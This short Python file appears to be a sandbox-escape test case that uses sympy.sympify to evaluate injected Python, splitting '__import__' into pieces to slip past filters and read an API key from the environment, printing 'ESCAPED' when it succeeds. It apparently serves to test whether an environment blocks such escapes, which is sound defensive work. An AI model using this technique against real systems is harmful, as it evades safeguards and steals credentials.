# attack: run Python through sympify to read an API key from the environment
# covers: env_secrets, getattr_strings
# gate: pass
# runtime: ok
# layer: clean_env
import sympy

count = sympy.sympify("len(__imp" + "ort__('o' + 's').environ)")
value = sympy.sympify("__imp" + "ort__('o' + 's').environ.get('@@SECRET_NAME@@', 'absent')")
print("variables in the environment:", count)
print("ESCAPED", value) if str(value) != "absent" else print("no secret in the environment")
